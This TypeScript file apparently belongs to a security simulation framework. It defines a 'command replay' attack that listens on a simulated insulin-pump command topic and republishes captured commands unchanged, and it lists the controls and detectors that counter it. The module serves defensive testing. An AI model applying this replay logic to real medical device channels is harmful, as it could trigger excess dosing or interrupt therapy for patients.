import { z } from 'zod';
import type { AdversarySession } from '../adversary/adversary.ts';
import { defineAttack } from './attack.ts';
import { connectAsAttacker, runOf, targetTopic } from './support.ts';

/** Listen on the target's command topic and send every command captured there again, byte for byte. */
export const commandReplay = defineAttack({
  name: 'attack.command-replay',
  category: 'attack',
  summary: 'capture a legitimate command to the target and send it again, unchanged',
  precedent:
    'CISA ICSMA-18-219-02 (Medtronic MiniMed remote controllers: a captured bolus replayed, CWE-294, docs/advisories.md); ' +
    'FDA’s 2023 premarket guidance asks for anti-replay on every command for this reason.',
  labels: {},
  techniques: ['T0855', 'T0842'],
  stoppedBy: [
    { control: 'authentication', how: 'an outsider cannot connect to listen or send' },
    { control: 'acl', how: 'a device identity may not read another device’s command topic, nor write to it' },
    { control: 'signedCommands', how: 'a replayed nonce is refused by the device (replayed), as is a stale timestamp (expired)' },
  ],
  detectedBy: ['unknown-client', 'eavesdrop-subscribe', 'unauthorized-command', 'command-replay', 'refused-access'],
  impacts: ['dose-excess', 'therapy-interruption-minutes', 'time-to-detection'],
  params: z.strictObject({
    replays: z.number().int().min(1).max(10).default(1).describe('how many captured commands to replay (bounded)'),
  }),
  async execute(context, params) {
    const session = await connectAsAttacker(context);
    if (session !== undefined) {
      const topic = targetTopic(context.target, 'cmd');
      await session.subscribe(topic);
      replayCaptured(session, topic, params.replays);
    }
    return runOf(context.target.site, [session]);
  },
});

/** Sends each of the first `count` messages captured on `topic` back to it, as soon as it arrives. */
function replayCaptured(session: AdversarySession, topic: string, count: number): void {
  let replayed = 0;
  session.onMessage((m) => {
    if (m.topic !== topic || replayed >= count) return;
    replayed++;
    void session.publish(topic, m.payload);
  });
}
